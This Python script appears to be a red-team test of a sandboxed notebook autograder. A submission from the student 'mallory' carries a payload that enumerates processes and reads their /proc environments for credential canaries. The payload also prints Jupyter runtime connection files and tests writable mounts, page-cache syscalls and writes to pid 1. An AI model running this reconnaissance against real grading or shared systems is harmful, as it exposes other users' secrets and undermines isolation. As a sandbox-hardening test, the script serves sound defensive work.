"""In-kernel recon: descriptors, mounts, runtime folder, other processes, canaries; and calls the filter lets
through that touch the page cache or the host (sync, syncfs, MADV_COLLAPSE, MAP_POPULATE, cachestat, flock)."""
from common import *
PAYLOAD = r'''
import os, ctypes, mmap, time, glob, fcntl, json, sys
out = []
def p(*a): out.append(" ".join(str(x) for x in a))
libc = ctypes.CDLL(None, use_errno=True)
p("uid", os.getuid(), "pid", os.getpid())
for pid in sorted(os.listdir("/proc")):
    if not pid.isdigit(): continue
    try: cmd = open(f"/proc/{pid}/cmdline","rb").read().replace(b"\0",b" ")[:150]
    except Exception as e: cmd = repr(e)
    try: fds = {fd: os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
    except Exception as e: fds = repr(e)
    p("PROC", pid, cmd, fds)
    try:
        env = open(f"/proc/{pid}/environ","rb").read()
        p("  env has canary:", b"AKIASECRET" in env or b"ta:secret" in env, len(env))
    except Exception as e: p("  env", repr(e))
rt = os.environ.get("JUPYTER_RUNTIME_DIR")
p("runtime", rt, os.listdir(rt) if rt else None)
for f in os.listdir(rt or "/"):
    path = os.path.join(rt, f)
    try: p("  rt file", f, oct(os.stat(path).st_mode), os.stat(path).st_uid, open(path).read()[:300] if f.endswith(".json") else "")
    except Exception as e: p("  rt", f, repr(e))
try: open(os.path.join(rt, "x"), "w"); p("runtime WRITABLE")
except Exception as e: p("runtime write:", repr(e))
for l in open("/proc/self/mountinfo"):
    f = l.split()
    if "rw" in f[5].split(","): p("RW mount", f[4], f[5], f[8] if len(f) > 8 else "")
# sync / syncfs
t = time.time(); os.sync(); p("sync ok", round(time.time()-t, 3))
fd = os.open(sys.executable, os.O_RDONLY)
r = libc.syncfs(fd); p("syncfs", r, ctypes.get_errno())
# cachestat (451)
class CS(ctypes.Structure): _fields_ = [(n, ctypes.c_uint64) for n in ("cache","dirty","writeback","evicted","recently_evicted")]
class CR(ctypes.Structure): _fields_ = [("off", ctypes.c_uint64), ("len", ctypes.c_uint64)]
cs = CS(); cr = CR(0, 0)
r = libc.syscall(451, fd, ctypes.byref(cr), ctypes.byref(cs), 0); p("cachestat", r, ctypes.get_errno(), cs.cache, cs.evicted)
# MADV_COLLAPSE on a file mapping, MAP_POPULATE
import torch
lib = [f for f in glob.glob(os.path.dirname(torch.__file__) + "/lib/*.so*")]
lib.sort(key=os.path.getsize); big = lib[-1]
p("big lib", big, os.path.getsize(big))
bfd = os.open(big, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
n = 64 << 20
addr = libc.mmap(None, n, 1 | 4, 2, bfd, 0)  # PROT_READ|EXEC, MAP_PRIVATE
for adv in (14, 25, 23, 4, 9, 10, 8, 18, 19):  # HUGEPAGE, COLLAPSE, POPULATE_WRITE, DONTNEED, REMOVE, DONTFORK, FREE, WIPEONFORK
    r = libc.madvise(ctypes.c_void_p(addr), ctypes.c_size_t(n), adv); p("madvise", adv, r, ctypes.get_errno())
t = time.time(); a2 = libc.mmap(None, n, 1, 2 | 0x8000, bfd, 0); p("MAP_POPULATE", hex(a2 or 0), round(time.time()-t, 3))
# preadv2 flags
buf = ctypes.create_string_buffer(4096)
class IOV(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("l", ctypes.c_size_t)]
iov = IOV(ctypes.cast(buf, ctypes.c_void_p), 4096)
for flags in (0, 1, 8, 0x10, 0x20, 0x40, 0x80, 0x100, 1 << 32):
    r = libc.syscall(327, bfd, ctypes.byref(iov), 1, ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(flags))
    p("preadv2 flag", hex(flags), r, ctypes.get_errno())
# flock on a read-only venv file
try: fcntl.flock(bfd, fcntl.LOCK_EX | fcntl.LOCK_NB); p("flock EX on", big, "OK")
except Exception as e: p("flock", repr(e))
# sched_setaffinity of pid 1 (bwrap init)
try: os.sched_setaffinity(1, {0}); p("setaffinity pid1 ok", os.sched_getaffinity(1))
except Exception as e: p("affinity", repr(e))
try: p("oom_score_adj pid1 write"); open("/proc/1/oom_score_adj","w").write("1000")
except Exception as e: p(" ", repr(e))
# close_range / other
for name in ("sys_fs", ):
    pass
print("\n".join(out))
'''
d = course("a01")
submit(d, "aaron", notebook())
submit(d, "mallory", notebook(extra={"training_memory": PAYLOAD}))
submit(d, "zoe", notebook())
grade(d); scores(d); canary_scan(d)
import nbformat
nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", as_version=4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.outputs:
            print(o.get("text", "") or o.get("evalue", "") or o)
